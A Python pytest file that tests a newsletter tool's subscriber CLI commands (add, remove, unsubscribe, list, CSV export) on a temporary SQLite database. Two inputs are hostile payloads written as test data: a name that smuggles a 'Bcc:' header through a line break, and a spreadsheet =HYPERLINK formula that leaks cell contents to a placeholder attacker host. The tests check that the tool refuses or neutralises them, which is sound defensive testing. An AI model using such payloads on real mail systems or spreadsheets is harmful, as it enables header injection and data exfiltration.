"""`digest subscribers add/remove/unsubscribe/list/export` through click's CliRunner on a real
SQLite file in a temporary folder, and the add use case it calls."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from digest.config import Config
from digest.jobs.subscribers import add_subscriber
from digest.store import Store
from digest.subscribers import new_subscriber

from .test_subscribers import (  # with the cli_at and run fixtures
    SAMPLE_CSV,
    SAMPLE_ROWS,
    VALID,
    Run,
    cli_at_fixture,  # noqa: F401
    import_sample,
    rows,
    run_fixture,  # noqa: F401
    summary,
)

# ---- add, remove, unsubscribe ------------------------------------------------------------------


def test_add_then_same_address_in_another_case_is_the_same_subscriber(
    run: Run, store: Store
) -> None:
    r = run("subscribers", "add", "Ana@Example.COM", "--name", "Ana Ruiz", "--sections", "space")
    assert (r.exit_code, r.stdout) == (0, "added: ana@example.com\n")
    r = run("subscribers", "add", "ana@example.com", "--name", "Ana Ruiz", "--sections", "SPACE")
    assert (r.exit_code, r.stdout) == (0, "unchanged: ana@example.com\n")
    r = run("subscribers", "add", "ANA@example.com", "--name", "Ana R.", "--sections", "Space")
    assert (r.exit_code, r.stdout) == (0, "updated: ana@example.com\n")
    assert rows(store) == [("ana@example.com", "Ana R.", ("Space",), "active")]


def test_add_stores_sections_in_canonical_spelling_and_order(run: Run, store: Store) -> None:
    r = run(
        "subscribers",
        "add",
        "zoe@example.org",
        "--sections",
        "earth AND climate; space ;superpowers and DIPLOMACY;Space",
    )
    assert r.exit_code == 0, r.output
    assert rows(store) == [
        (
            "zoe@example.org",
            None,
            ("Superpowers and diplomacy", "Space", "Earth and climate"),
            "active",
        )
    ]


@pytest.mark.parametrize(
    ("args", "error"),
    [
        (["not-an-email"], "error: invalid email 'not-an-email': "),
        (["", "--name", "X"], "error: email is empty\n"),
        (
            ["ana@example.com", "--sections", "Bogus"],
            f"error: unknown section 'Bogus' (the sections are: {VALID})\n",
        ),
        (
            ["ana@example.com", "--name", "Ana\r\nBcc: evil@example.com"],
            "error: name contains a line break or control character\n",
        ),
    ],
)
def test_add_refuses_bad_input(run: Run, store: Store, args: list[str], error: str) -> None:
    r = run("subscribers", "add", *args)
    assert r.exit_code == 2
    assert r.stdout == ""
    assert r.stderr.startswith(error)
    assert rows(store) == []


@pytest.mark.parametrize("state", ["unsubscribed", "bounced"])
def test_add_refuses_an_unsubscribed_or_bounced_address(run: Run, store: Store, state: str) -> None:
    assert run("subscribers", "add", "ana@example.com", "--name", "Ana").exit_code == 0
    ana = store.find_subscriber("ana@example.com")
    assert ana is not None
    if state == "unsubscribed":
        assert run("subscribers", "unsubscribe", "ana@example.com").exit_code == 0
    else:
        store.set_status(ana.id, state)
    r = run("subscribers", "add", "Ana@Example.com", "--name", "Ana Again")
    assert r.exit_code == 2
    assert r.stderr == f"error: ana@example.com is {state}; only they can subscribe again\n"
    assert rows(store) == [("ana@example.com", "Ana", None, state)]


def test_remove_deletes_and_a_later_import_adds_again(run: Run, store: Store) -> None:
    import_sample(run)
    r = run("subscribers", "remove", "CHIDI.OKAFOR@example.com")
    assert (r.exit_code, r.stdout) == (0, "removed: chidi.okafor@example.com\n")
    assert rows(store) == [s for s in SAMPLE_ROWS if s[0] != "chidi.okafor@example.com"]
    assert store.find_subscriber("chidi.okafor@example.com") is None
    r = run("subscribers", "import", str(SAMPLE_CSV))
    assert r.stdout == f"import: {summary(added=1, unchanged=7)}, 0 bad rows skipped\n"


@pytest.mark.parametrize("command", ["remove", "unsubscribe"])
def test_unknown_address_cannot_run(run: Run, command: str) -> None:
    import_sample(run)
    r = run("subscribers", command, "Nobody@Example.com")
    assert r.exit_code == 2
    assert r.stdout == ""
    assert r.stderr == "error: no subscriber Nobody@Example.com\n"


def test_remove_with_an_invalid_address_cannot_run(run: Run) -> None:
    r = run("subscribers", "remove", "nobody")
    assert r.exit_code == 2
    assert r.stderr.startswith("error: invalid email 'nobody': ")


# ---- list and export -----------------------------------------------------------------------


def test_list_json(run: Run) -> None:
    import_sample(run)
    r = run("subscribers", "list", "--json")
    assert r.exit_code == 0
    assert json.loads(r.stdout) == [
        {
            "email": email,
            "name": name,
            "sections": list(sections) if sections is not None else None,
            "status": status,
        }
        for email, name, sections, status in SAMPLE_ROWS
    ]
    assert "Zoë Lefèvre" in r.stdout  # not \u-escaped


def test_list_text(run: Run) -> None:
    assert run("subscribers", "add", "ana@example.com", "--name", "Ana Ruiz").exit_code == 0
    assert (
        run("subscribers", "add", "bob@example.com", "--sections", "nuclear;space").exit_code == 0
    )
    r = run("subscribers", "list")
    assert r.exit_code == 0
    assert r.stdout == (
        "ana@example.com\tAna Ruiz\tactive\tall sections\n"
        "bob@example.com\t\tactive\tNuclear; Space\n"
        "2 subscribers\n"
    )


def test_list_status_filters(run: Run, store: Store) -> None:
    import_sample(run)
    assert run("subscribers", "unsubscribe", "ana.ruiz@example.com").exit_code == 0
    assert run("subscribers", "unsubscribe", "tom.becker@example.com").exit_code == 0
    store.upsert_subscribers([new_subscriber("new@example.com", "New", None, [])], status="pending")
    tom = store.find_subscriber("tom.becker@example.com")
    assert tom is not None

    def emails(status: str) -> list[str]:
        r = run("subscribers", "list", "--json", "--status", status)
        assert r.exit_code == 0, r.output
        return [s["email"] for s in json.loads(r.stdout)]

    assert emails("unsubscribed") == ["ana.ruiz@example.com", "tom.becker@example.com"]
    assert emails("pending") == ["new@example.com"]
    assert emails("bounced") == []
    assert emails("active") == [
        s[0] for s in SAMPLE_ROWS if s[0] not in ("ana.ruiz@example.com", "tom.becker@example.com")
    ]
    store.set_status(tom.id, "bounced")
    assert emails("bounced") == ["tom.becker@example.com"]
    r = run("subscribers", "list", "--status", "gone")
    assert r.exit_code == 2  # a usage error from click


def test_export_then_import_into_a_fresh_database_round_trips(
    run: Run, cli_at: Callable[[str], Run], store: Store, tmp_path: Path
) -> None:
    import_sample(run)
    assert (
        run(
            "subscribers",
            "add",
            "quote@example.com",
            "--name",
            'Bob "The Builder", Jr',
            "--sections",
            "more headlines;SPACE",
        ).exit_code
        == 0
    )
    assert run("subscribers", "unsubscribe", "mei.tanaka@example.com").exit_code == 0
    store.upsert_subscribers([new_subscriber("p@example.com", None, None, [])], status="pending")

    out = tmp_path / "export.csv"
    r = run("subscribers", "export", str(out))
    assert (r.exit_code, r.stdout) == (0, f"exported 8 subscribers to {out}\n")
    exported = out.read_text(encoding="utf-8")
    assert exported.splitlines()[:4] == [
        "email,name,sections",
        "ana.ruiz@example.com,Ana Ruiz,",
        "zoe.lefevre@example.org,Zoë Lefèvre,Space;Earth and climate",
        'chidi.okafor@example.com,"Okafor, Chidi",',
    ]
    assert exported.splitlines()[-1] == (
        'quote@example.com,"Bob ""The Builder"", Jr",Space;More headlines'
    )
    assert "mei.tanaka" not in exported and "p@example.com" not in exported  # active only

    fresh = cli_at(f"sqlite:///{tmp_path / 'fresh.db'}")
    r = fresh("subscribers", "import", str(out))
    assert (r.exit_code, r.stderr) == (0, ""), r.output
    assert r.stdout == f"import: {summary(added=8)}, 0 bad rows skipped\n"
    original = json.loads(run("subscribers", "list", "--json", "--status", "active").stdout)
    copied = json.loads(fresh("subscribers", "list", "--json").stdout)
    assert copied == original
    assert len(copied) == 8

    again = tmp_path / "again.csv"
    assert fresh("subscribers", "export", str(again)).exit_code == 0
    assert again.read_bytes() == out.read_bytes()


def test_export_neutralises_cells_a_spreadsheet_would_run(
    run: Run, cli_at: Callable[[str], Run], tmp_path: Path
) -> None:
    """A name like =HYPERLINK(...) becomes text in a spreadsheet, and still round-trips."""
    names = {
        "f1@example.com": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "f2@example.com": "+1 555 0100",
        "f3@example.com": "-Minus",
        "f4@example.com": "@SUM(A1:A2)",
        "-dash@example.com": "Plain",
    }
    for email, name in names.items():
        assert run("subscribers", "add", "--name", name, "--", email).exit_code == 0
    out = tmp_path / "export.csv"
    assert run("subscribers", "export", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1:]
    for row in rows:
        for cell in row[:2]:
            assert not cell.startswith(("=", "+", "-", "@")), row
    fresh = cli_at(f"sqlite:///{tmp_path / 'fresh.db'}")
    assert fresh("subscribers", "import", str(out)).exit_code == 0
    copied = json.loads(fresh("subscribers", "list", "--json").stdout)
    assert {s["email"]: s["name"] for s in copied} == names


def test_add_keeps_what_was_not_given(store: Store, config: Config) -> None:
    add_subscriber(store, config, "ana@example.com", "Ana Ruiz", "Space;Nuclear")
    assert add_subscriber(store, config, "ANA@example.com", "Ana R.", None) == "updated"
    sub = store.find_subscriber("ana@example.com")
    assert sub is not None and (sub.name, sub.sections) == ("Ana R.", ("Nuclear", "Space"))
    add_subscriber(store, config, "ana@example.com", None, "War report")
    sub = store.find_subscriber("ana@example.com")
    assert sub is not None and (sub.name, sub.sections) == ("Ana R.", ("War report",))
